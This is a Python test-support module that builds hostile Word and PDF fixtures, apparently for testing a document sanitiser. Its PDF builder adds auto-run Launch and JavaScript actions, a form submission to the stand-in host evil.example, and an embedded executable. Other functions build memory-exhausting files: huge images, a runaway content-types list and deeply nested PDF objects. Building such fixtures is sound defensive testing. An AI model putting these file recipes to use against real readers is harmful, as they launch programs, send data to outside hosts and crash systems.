"""Files that would run something, fetch something or fill the memory when they are opened."""

import random
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.support.content import files

ELSEWHERE = "evil.example"
"""A host that no kept file may name, links for readers excepted."""

_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relations(*targets: tuple[str, str]) -> bytes:
    """Return the relations of a part of a Word file: (type, target) of what lies elsewhere."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(targets)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{rows}</Relationships>'.encode()


def word_with_relations(*targets: tuple[str, str], **changes: bytes) -> bytes:
    """Return a Word file whose footer leads to these targets."""
    parts: dict[str, bytes | None] = {"word/_rels/footer9.xml.rels": relations(*targets)}
    return files.repacked(files.word("We keep seeds."), parts | dict(changes))


def word_with_body(xml: str) -> bytes:
    """Return a Word file in which this stands in the text of a footer."""
    part = f"<w:ftr {_WORD}><w:p>{xml}</w:p></w:ftr>".encode()
    return files.repacked(files.word("We keep seeds."), {"word/footer9.xml": part})


def field(*instructions: str, shown: str = "Kept result") -> str:
    """Return a field of Word with its instruction in pieces, as Word cuts it."""
    pieces = "".join(
        f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>"
        for piece in instructions
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def active_pdf() -> bytes:
    """Return a PDF that runs scripts, starts programs, sends a form away and holds a file."""
    writer = PdfWriter(clone_from=BytesIO(files.pdf("We keep seeds.")))
    script = _action("/JavaScript", JS=TextStringObject(f"app.launchURL('http://{ELSEWHERE}')"))
    writer.add_attachment("run.exe", b"MZ attached")
    root = writer.root_object
    launch = _action("/Launch", F=TextStringObject(f"\\\\{ELSEWHERE}\\run.exe"))
    root[NameObject("/OpenAction")] = launch
    names = root["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("start"), script])}
    )
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject(f"alert('{ELSEWHERE}')"))}
    )
    actions = [
        _action("/SubmitForm", F=TextStringObject(f"http://{ELSEWHERE}/form")),
        _action("/URI", URI=TextStringObject(f"javascript:alert('{ELSEWHERE}')")),
        _action("/URI", URI=TextStringObject("https://seeds.example/")),
        launch,
    ]
    page[NameObject("/Annots")] = ArrayObject(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/A"): action,
            }
        )
        for action in actions
    )
    written = BytesIO()
    writer.write(written)
    return written.getvalue()


def _action(kind: str, **entries: TextStringObject) -> DictionaryObject:
    named = {NameObject(f"/{name}"): value for name, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **named})


def word_with_endless_list() -> bytes:
    """Return a Word file of 1.9 MB whose list of parts fills gigabytes when it is read."""
    noise = random.Random(7).randbytes(1_300_000)
    rows = b"".join(
        b'<Default Extension="%d" ContentType="a"/>' % n for n in range(4_000_000 // 40)
    )
    part = b'<Types xmlns="t">' + rows * 20 + b"</Types>"
    sent = files.word("We keep seeds.")
    return files.repacked(sent, {"[Content_Types].xml": part, "word/media/a.bin": noise})


def hostile_files() -> dict[str, bytes]:
    """Return files that take much memory or time where they are opened without care."""
    return {
        "a picture of one column": files.png_of_size(1, 49_000_000),
        "a picture of one line": files.png_of_size(49_000_000, 1),
        "a picture of 49 million dots": files.png_of_size(7_000, 7_000),
        "a list of parts without end": word_with_endless_list(),
        "a text of 49 MB": files.repacked(
            files.word("x"), {"word/document.xml": b"<a>" + b"<b/>" * 12_000_000}
        ),
        "a PDF that lies about its parts": b"%PDF-1.7\n"
        + b"1 0 obj << /A [" * 200_000
        + b"startxref\n0\n%%EOF",
    }
